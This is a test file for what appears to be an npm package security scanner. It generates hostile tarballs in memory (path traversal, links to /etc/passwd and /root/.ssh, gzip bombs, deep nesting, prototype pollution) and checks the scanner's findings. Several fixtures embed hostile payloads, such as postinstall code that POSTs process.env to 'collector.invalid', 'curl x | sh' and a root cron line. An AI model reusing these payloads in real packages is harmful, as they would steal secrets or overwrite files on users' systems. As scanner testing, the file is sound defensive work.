// Hostile inputs, generated here (never stored as big files). Every case must end in bounded time
// with a finding or a clear error: never a crash, a hang, or a silent "clean".
import { once } from 'node:events';
import zlib from 'node:zlib';
import { describe, expect, test } from 'vitest';
import type { Finding, ReportedPackage } from '../src/types.js';
import { unpackTarball } from '../src/unpack/tarball.js';
import { DEFAULT_UNPACK_LIMITS } from '../src/unpack/limits.js';
import { analyzePackage, DEFAULT_ENGINE_OPTIONS } from '../src/engine/run/analyze.js';
import { scoreFindings } from '../src/score/score.js';
import { analyzeTarball } from '../src/scan.js';
import { RULES } from '../heuristics/index.js';
import { packTarball } from './helpers/registry.js';
import { rawTgz, randomBytes, tarHeader, tarPad as pad } from '../scripts/hostile/raw-tar.js';

const BOUND_MS = 20_000;
const MiB = 1024 * 1024;
const GiB = 1024 * MiB;

const PKG_JSON = JSON.stringify({ name: 'hostile', version: '1.0.0', main: 'index.js' });

async function timed<T>(fn: () => Promise<T> | T): Promise<{ value: T; ms: number }> {
  const t0 = performance.now();
  const value = await fn();
  return { value, ms: performance.now() - t0 };
}

function analyzeUnpacked(pkg: Awaited<ReturnType<typeof unpackTarball>>) {
  const analysis = analyzePackage(pkg, RULES, DEFAULT_ENGINE_OPTIONS);
  return { ...analysis, ...scoreFindings(analysis.findings) };
}

const of = (findings: readonly Finding[], rule: string): Finding[] => findings.filter((f) => f.rule === rule);
const hasGap = (findings: readonly Finding[]): boolean => findings.some((f) => f.signals?.includes('analysis-gap'));

async function scanBytes(data: Buffer): Promise<{ report: ReportedPackage; ms: number }> {
  const { value, ms } = await timed(() => analyzeTarball({ data, spec: 'hostile.tgz' }));
  return { report: value, ms };
}

/** Timings of the slow cases, printed once at the end for the record. */
const timings: Record<string, number> = {};

// ---------------------------------------------------------------------------------------------

describe('hostile archives: paths and links', () => {
  test('"../" traversal and absolute paths are critical unpack hazards and never kept', async () => {
    const tgz = rawTgz([
      { path: 'package/package.json', body: PKG_JSON },
      { path: 'package/index.js', body: 'module.exports = 1;\n' },
      { path: 'package/../../evil.js', body: 'require("child_process").exec("id")\n' },
      { path: '/etc/cron.d/evil', body: '* * * * * root id\n' },
      { path: 'package/lib/../../../../home/u/.bashrc', body: 'curl x | sh\n' },
      { path: 'C:/Windows/evil.js', body: 'x\n' },
    ]);
    const { value: pkg, ms } = await timed(() => unpackTarball(tgz));
    expect(ms).toBeLessThan(BOUND_MS);
    const hazards = of(pkg.findings, 'unpack-hazard').filter((f) => f.severity === 'critical');
    expect(hazards.length).toBe(4);
    expect(hazards.some((f) => f.message.includes('../../evil.js'))).toBe(true);
    expect(hazards.some((f) => f.message.includes('/etc/cron.d/evil'))).toBe(true);
    expect(hazards.some((f) => f.message.includes('C:/Windows'))).toBe(true);
    // Only the two honest files are kept, and no key looks like an escape.
    expect([...pkg.files.keys()].sort()).toEqual(['index.js', 'package.json']);
    for (const key of pkg.files.keys()) {
      expect(key.split('/')).not.toContain('..');
      expect(key.startsWith('/')).toBe(false);
    }
    const { report } = await scanBytes(tgz);
    expect(report.verdict).not.toBe('clean');
    expect(report.findings.some((f) => f.rule === 'unpack-hazard' && f.severity === 'critical')).toBe(true);
  });

  test('symlink and hard link pointing outside are high hazards and never followed', async () => {
    const tgz = rawTgz([
      { path: 'package/package.json', body: PKG_JSON },
      { path: 'package/index.js', body: 'module.exports = require("./lib/passwd");\n' },
      { path: 'package/lib/passwd', type: '2', linkpath: '../../../../../etc/passwd' },
      { path: 'package/lib/hosts.js', type: '1', linkpath: '/etc/hosts' },
      { path: 'package/ssh', type: '2', linkpath: '/root/.ssh' },
      // A file "through" the symlinked folder: in memory it is just a path, never a write into /root.
      { path: 'package/ssh/authorized_keys', body: 'ssh-rsa AAAA attacker\n' },
    ]);
    const { value: pkg, ms } = await timed(() => unpackTarball(tgz));
    expect(ms).toBeLessThan(BOUND_MS);
    const links = of(pkg.findings, 'unpack-hazard').filter((f) => f.severity === 'high');
    expect(links.map((f) => f.file).sort()).toEqual(['lib/hosts.js', 'lib/passwd', 'ssh']);
    expect(links.find((f) => f.file === 'lib/passwd')!.message).toMatch(/symlink/);
    expect(links.find((f) => f.file === 'lib/hosts.js')!.message).toMatch(/hard link/);
    // Never followed: the link entries are not files, and nothing from the host was read.
    expect(pkg.files.has('lib/passwd')).toBe(false);
    expect(pkg.files.has('lib/hosts.js')).toBe(false);
    expect(pkg.files.has('ssh')).toBe(false);
    expect(pkg.files.get('ssh/authorized_keys')?.data?.toString()).toBe('ssh-rsa AAAA attacker\n');
    for (const f of pkg.files.values()) expect(f.data?.toString() ?? '').not.toMatch(/^root:/m);

    const { report } = await scanBytes(tgz);
    expect(report.verdict).not.toBe('clean');
  });

  test('PAX and GNU long-name headers cannot smuggle a traversal path past the check', async () => {
    const paxRecord = (key: string, value: string): string => {
      const body = ` ${key}=${value}\n`;
      let len = body.length + 1;
      while (String(len).length + body.length !== len) len = String(len).length + body.length;
      return `${len}${body}`;
    };
    const tgz = rawTgz([
      { path: 'package/package.json', body: PKG_JSON },
      { path: 'PaxHeader/harmless.js', type: 'x', body: paxRecord('path', 'package/../../../tmp/pax-evil.js') },
      { path: 'package/harmless.js', body: 'module.exports = 1;\n' },
      { path: '././@LongLink', type: 'L', body: 'package/../../../tmp/gnu-evil.js\0' },
      { path: 'package/also-harmless.js', body: 'module.exports = 2;\n' },
    ]);
    const pkg = await unpackTarball(tgz);
    const crit = of(pkg.findings, 'unpack-hazard').filter((f) => f.severity === 'critical');
    expect(crit.map((f) => f.file).sort()).toEqual(['../../../tmp/gnu-evil.js', '../../../tmp/pax-evil.js']);
    expect([...pkg.files.keys()]).toEqual(['package.json']);
  });

  test('non-canonical entry paths ("package/./index.js", "package//index.js") are analyzed as the file npm installs', async () => {
    const pj = JSON.stringify({ name: 'hostile', version: '1.0.0', main: 'index.js' });
    const protest = "for (let i = 666; i < Infinity; i++) { console.log('peace'); }\n";
    for (const evilPath of ['package/./index.js', 'package//index.js']) {
      const tgz = rawTgz([
        { path: 'package/package.json', body: pj },
        { path: 'package/index.js', body: 'module.exports = 1;\n' },
        // npm's extractor (tar, strip: 1) writes this over index.js; it is the main that runs.
        { path: evilPath, body: protest },
      ]);
      const pkg = await unpackTarball(tgz);
      expect([...pkg.files.keys()].sort()).toEqual(['index.js', 'package.json']);
      expect(pkg.files.get('index.js')!.data!.toString()).toBe(protest);
      const { report } = await scanBytes(tgz);
      expect(report.verdict).not.toBe('clean');
    }
  });

  test('duplicate entries of one path are reported; the last copy is the one analyzed', async () => {
    const tgz = rawTgz([
      { path: 'package/package.json', body: PKG_JSON },
      { path: 'package/index.js', body: 'module.exports = 1;\n' },
      { path: 'package/index.js', body: "require('https').request('https://collector.invalid', { method: 'POST' }).end(JSON.stringify(process.env));\n" },
    ]);
    const pkg = await unpackTarball(tgz);
    const dup = of(pkg.findings, 'unpack-hazard').filter((f) => /duplicate/.test(f.message));
    expect(dup).toHaveLength(1);
    expect(dup[0]!.file).toBe('index.js');
    expect(pkg.files.get('index.js')!.data!.toString()).toMatch(/collector\.invalid/);
    const { report } = await scanBytes(tgz);
    expect(report.findings.some((f) => f.rule === 'unpack-hazard' && /duplicate/.test(f.message))).toBe(true);
    expect(report.verdict).toBe('malicious');
  });
});

describe('hostile archives: size', () => {
  test('a 1 GiB gzip bomb stops at the unpack limit, in bounded time and memory', async () => {
    // Stream header + 1 GiB of zeros through gzip level 9: ~1 MB out, never 1 GiB held.
    const t0 = performance.now();
    const gz = zlib.createGzip({ level: 9, chunkSize: 64 * 1024 });
    const out: Buffer[] = [];
    gz.on('data', (c: Buffer) => out.push(c));
    const ended = once(gz, 'end');
    const write = async (b: Buffer) => {
      if (!gz.write(b)) await once(gz, 'drain');
    };
    const pj = Buffer.from(PKG_JSON);
    await write(tarHeader({ path: 'package/package.json' }, pj.length));
    await write(Buffer.concat([pj, pad(pj.length)]));
    await write(tarHeader({ path: 'package/bomb.bin' }, GiB));
    const zeros = Buffer.alloc(4 * MiB);
    for (let done = 0; done < GiB; done += zeros.length) await write(zeros);
    await write(Buffer.alloc(1024));
    gz.end();
    await ended;
    const bomb = Buffer.concat(out);
    timings['bomb: build 1 GiB gzip'] = performance.now() - t0;
    expect(bomb.length).toBeLessThan(4 * MiB);

    global.gc?.();
    const rss0 = process.memoryUsage().rss;
    let peak = rss0;
    const sampler = setInterval(() => {
      peak = Math.max(peak, process.memoryUsage().rss);
    }, 5);
    let pkg: Awaited<ReturnType<typeof unpackTarball>>;
    let ms: number;
    try {
      ({ value: pkg, ms } = await timed(() => unpackTarball(bomb)));
    } finally {
      clearInterval(sampler);
    }
    peak = Math.max(peak, process.memoryUsage().rss);
    timings['bomb: unpack'] = ms;
    timings['bomb: peak rss delta MB'] = (peak - rss0) / MiB;
    expect(ms).toBeLessThan(BOUND_MS);
    expect(peak - rss0).toBeLessThan(700 * MiB);

    const stop = pkg.findings.find((f) => f.rule === 'unpack-hazard' && f.signals?.includes('analysis-gap') && /bomb/.test(f.message));
    expect(stop, JSON.stringify(pkg.findings, null, 1)).toBeDefined();
    expect(stop!.message).toContain(String(DEFAULT_UNPACK_LIMITS.maxUnpackedBytes));
    // Reading stopped at the limit: never more than the limit (plus one inflate chunk) was read.
    expect(pkg.stats.unpackedBytes).toBeLessThanOrEqual(DEFAULT_UNPACK_LIMITS.maxUnpackedBytes);
    // Whatever was kept of the bomb is bounded by the per-file keep limit.
    expect(pkg.files.get('bomb.bin')?.data?.length ?? 0).toBeLessThanOrEqual(DEFAULT_UNPACK_LIMITS.maxKeptFileBytes);

    const { report, ms: scanMs } = await scanBytes(bomb);
    timings['bomb: analyzeTarball'] = scanMs;
    expect(scanMs).toBeLessThan(BOUND_MS);
    expect(report.verdict).not.toBe('clean');
    expect(report.reasons.join('\n')).toMatch(/not fully analyzed|bomb/);
  }, 120_000);

  test(`more entries than maxEntries (${DEFAULT_UNPACK_LIMITS.maxEntries}) is an analysis gap`, async () => {
    const n = DEFAULT_UNPACK_LIMITS.maxEntries + 10_000;
    const headers: Buffer[] = [tarHeader({ path: 'package/package.json' }, Buffer.byteLength(PKG_JSON)), Buffer.from(PKG_JSON), pad(Buffer.byteLength(PKG_JSON))];
    for (let i = 0; i < n; i++) headers.push(tarHeader({ path: `package/f/${i}.txt` }, 0));
    headers.push(Buffer.alloc(1024));
    const tgz = zlib.gzipSync(Buffer.concat(headers));
    const { value: pkg, ms } = await timed(() => unpackTarball(tgz));
    timings['40k entries: unpack'] = ms;
    expect(ms).toBeLessThan(BOUND_MS);
    const gap = of(pkg.findings, 'unpack-hazard').find((f) => f.signals?.includes('analysis-gap') && /entries/.test(f.message));
    expect(gap).toBeDefined();
    expect(pkg.files.size).toBeLessThanOrEqual(DEFAULT_UNPACK_LIMITS.maxEntries);
    const { report, ms: scanMs } = await scanBytes(tgz);
    expect(scanMs).toBeLessThan(BOUND_MS);
    expect(report.verdict).not.toBe('clean');
  }, 60_000);

  const MINIFIED_UNIT = 'var a0=function(b){return b+1};';
  const minified = (bytes: number): string => {
    const tail = 'module.exports=JSON.stringify(process.env);';
    return MINIFIED_UNIT.repeat(Math.ceil((bytes - tail.length) / MINIFIED_UNIT.length)) + tail;
  };

  test('a 20 MB single-line file gets a too-large note and only lexical checks, in bounded time', async () => {
    const text = minified(20 * MiB);
    expect(text.includes('\n')).toBe(false);
    const tgz = await packTarball({ 'package.json': PKG_JSON, 'index.js': text });
    const { value: r, ms } = await timed(async () => analyzeUnpacked(await unpackTarball(tgz)));
    timings['20 MB minified: unpack+analyze'] = ms;
    expect(ms).toBeLessThan(BOUND_MS);
    const tooLarge = of(r.findings, 'too-large');
    expect(tooLarge).toHaveLength(1);
    expect(tooLarge[0]!.file).toBe('index.js');
    expect(tooLarge[0]!.message).toContain(String(DEFAULT_ENGINE_OPTIONS.maxParseBytes));
    expect(r.stats.parsedFiles).toBe(0);
    const { ms: scanMs } = await scanBytes(tgz);
    expect(scanMs).toBeLessThan(BOUND_MS);
  }, 60_000);

  test('a 4 MB single-line file is under the parse limit and is parsed, in bounded time', async () => {
    const text = minified(4 * MiB);
    expect(text.length).toBeLessThan(DEFAULT_ENGINE_OPTIONS.maxParseBytes);
    const tgz = await packTarball({ 'package.json': PKG_JSON, 'index.js': text });
    const { value: r, ms } = await timed(async () => analyzeUnpacked(await unpackTarball(tgz)));
    timings['4 MB minified: unpack+analyze'] = ms;
    expect(ms).toBeLessThan(BOUND_MS);
    expect(of(r.findings, 'too-large')).toEqual([]);
    expect(of(r.findings, 'parse-error')).toEqual([]);
    expect(r.stats.parsedFiles).toBe(1);
    // Parsed for real: the AST rule sees the serialized environment at the very end of the line.
    const env = of(r.findings, 'env-access');
    expect(env.length).toBeGreaterThan(0);
    expect(env[0]!.line).toBe(1);
    expect(env[0]!.column).toBeGreaterThan(4 * MiB - 100);
  }, 60_000);
});

describe('hostile code', () => {
  test('random bytes named index.js: parse-error finding or nothing to parse, no crash', async () => {
    // With a trigger token so the lexical gate sends it to the parser.
    const junk = Buffer.concat([Buffer.from('process.env;\n'), randomBytes(64 * 1024)]);
    const tgz = await packTarball({ 'package.json': PKG_JSON, 'index.js': junk, 'other.js': randomBytes(16 * 1024, 7) });
    const { value: r, ms } = await timed(async () => analyzeUnpacked(await unpackTarball(tgz)));
    expect(ms).toBeLessThan(BOUND_MS);
    const pe = of(r.findings, 'parse-error').filter((f) => f.file === 'index.js');
    expect(pe).toHaveLength(1);
    expect(pe[0]!.signals).toContain('analysis-gap');
    expect(of(r.findings, 'engine-error')).toEqual([]);
  });

  test('syntactically broken JS with a capability token: parse-error with a location, or a recovered parse', async () => {
    const tgz = await packTarball({
      'package.json': PKG_JSON,
      // Unrecoverable: the parser gives up.
      'index.js': 'const e = JSON.stringify(process.env);\nfunction ( {\n  require("https").get(\n',
      // Recoverable (errorRecovery): a redeclaration; the rest of the file must still be analyzed.
      'recover.js': "const a = 1; const a = 2;\nrequire('https').request('https://collector.invalid', { method: 'POST' }).end(JSON.stringify(process.env));\n",
    });
    const r = analyzeUnpacked(await unpackTarball(tgz));
    const pe = of(r.findings, 'parse-error');
    expect(pe.map((f) => f.file)).toEqual(['index.js']);
    expect(pe[0]!.line).toBe(2);
    expect(r.findings.some((f) => f.file === 'recover.js' && f.rule === 'env-access')).toBe(true);
    expect(r.verdict).not.toBe('clean');
  });

  const deep = (depth: number, open: string, close: string, core: string): string => `module.exports = ${open.repeat(depth)}${core}${close.repeat(depth)};\n`;
  const cases: [string, number, string, string][] = [
    ['parentheses', 200_000, '(', ')'],
    ['a+(a+(...))', 200_000, 'a+(', ')'],
    ['arrays', 200_000, '[', ']'],
    ['parentheses, parser-deep', 5_000, '(', ')'],
    ['a+(a+(...)), parser-deep', 5_000, 'a+(', ')'],
    ['calls f(f(...)), parser-deep', 3_000, 'JSON.stringify(', ')'],
  ];
  test.each(cases)('%s nested %i deep: no crash, bounded time', async (_label, depth, open, close) => {
    const code = deep(depth, open, close, 'process.env');
    const tgz = await packTarball({ 'package.json': PKG_JSON, 'index.js': code });
    const { value: r, ms } = await timed(async () => analyzeUnpacked(await unpackTarball(tgz)));
    expect(ms).toBeLessThan(BOUND_MS);
    const pe = of(r.findings, 'parse-error');
    const errs = of(r.findings, 'engine-error');
    // Either the parser gave up (a parse-error gap) or it was walked; a stack overflow in a rule
    // becomes an engine-error gap rather than a crash.
    if (pe.length) {
      expect(pe[0]!.signals).toContain('analysis-gap');
    } else {
      expect(r.stats.parsedFiles).toBe(1);
    }
    for (const e of errs) expect(e.signals).toContain('analysis-gap');
  }, 60_000);

  test('deep nesting cannot hide an install-time environment exfiltrator', async () => {
    const depth = 2_000;
    const tgz = await packTarball({
      'package.json': JSON.stringify({ name: 'hostile', version: '1.0.0', scripts: { postinstall: 'node setup.js' } }),
      'setup.js': `const h = require('https'); const e = ${'('.repeat(depth)}JSON.stringify(process.env)${')'.repeat(depth)}; h.request({ host: 'collector.invalid', method: 'POST' }).end(e);\n`,
    });
    const { report } = await scanBytes(tgz);
    expect(report.findings.some((f) => f.rule === 'parse-error')).toBe(true);
    expect(report.verdict).not.toBe('clean');
  });
});

describe('hostile bytes', () => {
  test('a valid tarball cut in half is reported as damaged', async () => {
    const good = await packTarball({
      'package.json': PKG_JSON,
      'index.js': randomBytes(200 * 1024, 3).toString('base64'),
      'setup.js': 'module.exports = 2;\n',
    });
    const half = good.subarray(0, Math.floor(good.length / 2));
    const { report, ms } = await scanBytes(half);
    expect(ms).toBeLessThan(BOUND_MS);
    expect(report.findings.some((f) => f.rule === 'unpack-hazard' && f.signals?.includes('analysis-gap') && /damaged/.test(f.message))).toBe(true);
    expect(report.verdict).not.toBe('clean');
  });

  test.each([
    ['random bytes', randomBytes(100_000, 11)],
    ['gzip magic then garbage', Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), randomBytes(50_000, 13)])],
    ['empty buffer', Buffer.alloc(0)],
    ['a lone zero block', Buffer.alloc(512)],
    ['plain text', Buffer.from('this is not a tarball\n'.repeat(1000))],
  ])('%s: a finding, no crash, not clean', async (_label, data) => {
    const { report, ms } = await scanBytes(data);
    expect(ms).toBeLessThan(BOUND_MS);
    expect(report.findings.some((f) => f.rule === 'unpack-hazard' && f.signals?.includes('analysis-gap'))).toBe(true);
    expect(report.verdict).not.toBe('clean');
  });
});

describe('hostile manifests', () => {
  test('package.json that is not JSON: manifest-invalid', async () => {
    const tgz = await packTarball({ 'package.json': '{"name": "x", "version": ', 'index.js': 'module.exports = 1;\n' });
    const { report } = await scanBytes(tgz);
    const mi = report.findings.filter((f) => f.rule === 'manifest-invalid');
    expect(mi).toHaveLength(1);
    expect(mi[0]!.file).toBe('package.json');
    expect(report.name).toBe('hostile.tgz');
  });

  test('package.json missing: manifest-invalid', async () => {
    const tgz = await packTarball({ 'index.js': 'module.exports = 1;\n' });
    const { report } = await scanBytes(tgz);
    expect(report.findings.filter((f) => f.rule === 'manifest-invalid')).toHaveLength(1);
  });

  test.each([
    ['a JSON array', '[1,2,3]'],
    ['null', 'null'],
    ['a BOM then an object', '\uFEFF{"name":"bom","version":"1.0.0"}'],
  ])('package.json as %s: read or reported, no crash', async (_label, pj) => {
    const tgz = await packTarball({ 'package.json': pj, 'index.js': 'module.exports = 1;\n' });
    const { report } = await scanBytes(tgz);
    if (pj.includes('bom')) expect(report.name).toBe('bom');
    else expect(report.findings.some((f) => f.rule === 'manifest-invalid')).toBe(true);
  });

  test('__proto__ and constructor.prototype keys never pollute Object.prototype', async () => {
    const pj = `{
      "name": "pollute", "version": "1.0.0", "main": "index.js",
      "__proto__": { "polluted": true, "main": "evil.js" },
      "constructor": { "prototype": { "polluted": true } },
      "scripts": { "__proto__": { "polluted": true }, "constructor": { "prototype": { "polluted": true } }, "test": "node t.js" },
      "bin": { "__proto__": { "polluted": true } },
      "exports": { "__proto__": { "polluted": true } }
    }`;
    const tgz = await packTarball({ 'package.json': pj, 'index.js': 'module.exports = 1;\n', 'evil.js': 'require("child_process").exec("id")\n' });
    const pkg = await unpackTarball(tgz);
    expect(pkg.manifest).toBeDefined();
    expect(pkg.manifest!.name).toBe('pollute');
    expect(pkg.manifest!.main).toBe('index.js');
    const r = analyzeUnpacked(pkg);
    const { report } = await scanBytes(tgz);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect((Object.prototype as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')).toBe(false);
    expect(r.findings.some((f) => f.rule === 'engine-error')).toBe(false);
    expect(report.name).toBe('pollute');
  });
});

test('timings of the slow hostile cases', () => {
  // Printed so the numbers land in the test log; the assertions live in each case.
  console.log('hostile timings (ms / MB):', JSON.stringify(Object.fromEntries(Object.entries(timings).map(([k, v]) => [k, Math.round(v)]))));
});
